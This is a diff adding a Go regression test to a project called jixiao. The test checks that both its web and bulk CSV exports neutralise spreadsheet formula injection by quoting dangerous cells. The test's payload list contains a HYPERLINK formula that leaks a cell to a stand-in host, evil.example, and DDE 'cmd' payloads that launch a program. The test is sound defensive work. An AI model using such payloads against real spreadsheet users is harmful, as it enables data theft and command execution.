@@ -10,12 +10,17 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/url"
+	"os"
+	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 	"testing/fstest"
 
 	"github.com/google/go-cmp/cmp"
 	"github.com/jixiao/jixiao/graph"
+	"github.com/jixiao/jixiao/loader"
+	"github.com/jixiao/jixiao/warehouse"
 )
 
 // getCSV downloads /export.csv and returns the status, headers and the records after the
@@ -169,5 +174,96 @@ func TestPages(t *testing.T) {
 				t.Errorf("GET %s: Content-Security-Policy %q", tt.path, csp)
 			}
 		}
+	}
+}
+
+// formulas are cells that a spreadsheet would run (CSV injection), as a document may hold them.
+var formulas = []string{
+	`=HYPERLINK("http://evil.example/?leak="&A1,"点击")`,
+	`+1+cmd|' /C calc'!A0`,
+	`-2+3+cmd|' /C calc'!A0`,
+	`@SUM(1+1)*cmd|' /C calc'!A0`,
+	"\t=1+1",
+	"\r=1+1",
+}
+
+// runsAsFormula says whether a spreadsheet would run a cell: it starts with =, @, a tab or
+// a carriage return, or with + or - and is not a number.
+func runsAsFormula(cell string) bool {
+	if cell == "" {
+		return false
+	}
+	switch cell[0] {
+	case '=', '@', '\t', '\r':
+		return true
+	case '+', '-':
+		_, err := strconv.ParseFloat(cell, 64)
+		return err != nil
+	}
+	return false
+}
+
+// TestEveryCSVExportNeutralizesFormulas loads a document whose project names, indicator names
+// and values are formulas, and exports it both ways: /export.csv and Store.Export (what
+// `jixiao export --format csv` runs). Before one writer served both, the bulk export wrote the
+// formulas unchanged. No cell of either may run as a formula, and each formula must be there
+// behind a quote.
+func TestEveryCSVExportNeutralizesFormulas(t *testing.T) {
+	doc, err := loader.ParseFile(referencePath, loader.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, f := range formulas {
+		doc.Projects[i].Name = f
+		doc.Projects[i].Indicators[0].Level3 = f
+		doc.Projects[i].Indicators[0].Value.Raw = f
+	}
+	srv, store := serveDocuments(t, graph.Options{}, slog.New(slog.DiscardHandler), doc)
+
+	check := func(where string, records [][]string) {
+		t.Helper()
+		seen := map[string]bool{}
+		for r, rec := range records {
+			for c, cell := range rec {
+				if runsAsFormula(cell) {
+					t.Errorf("%s, row %d, column %d: %q runs as a formula", where, r+1, c+1, cell)
+				}
+				seen[cell] = true
+			}
+		}
+		for _, f := range formulas {
+			// encoding/csv drops a lone CR inside a cell when lines end with CRLF.
+			if !seen["'"+f] && !seen["'"+strings.ReplaceAll(f, "\r", "")] {
+				t.Errorf("%s: no cell %q (the formula behind a quote)", where, "'"+f)
+			}
+		}
+	}
+
+	link := srv.URL + "/export.csv?" + url.Values{"query": {`{ projectGroups(groupBy: [PROJECT], measures: [COUNT]) { table { columns { name } rows } } }`}}.Encode()
+	req, _ := http.NewRequest(http.MethodGet, link, nil)
+	resp, records, body := getCSV(t, req)
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("/export.csv: %s %s", resp.Status, body)
+	}
+	check("/export.csv", records)
+
+	dir := t.TempDir()
+	if _, err := store.Export(t.Context(), dir, warehouse.CSV); err != nil {
+		t.Fatal(err)
+	}
+	for _, table := range []string{"projects", "indicators"} {
+		raw, err := os.ReadFile(filepath.Join(dir, table+".csv"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		rest, ok := bytes.CutPrefix(raw, []byte("\xEF\xBB\xBF"))
+		if !ok {
+			t.Errorf("%s.csv: no UTF-8 byte-order mark", table)
+		}
+		records, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		check("jixiao export "+table+".csv", records)
 	}
 }
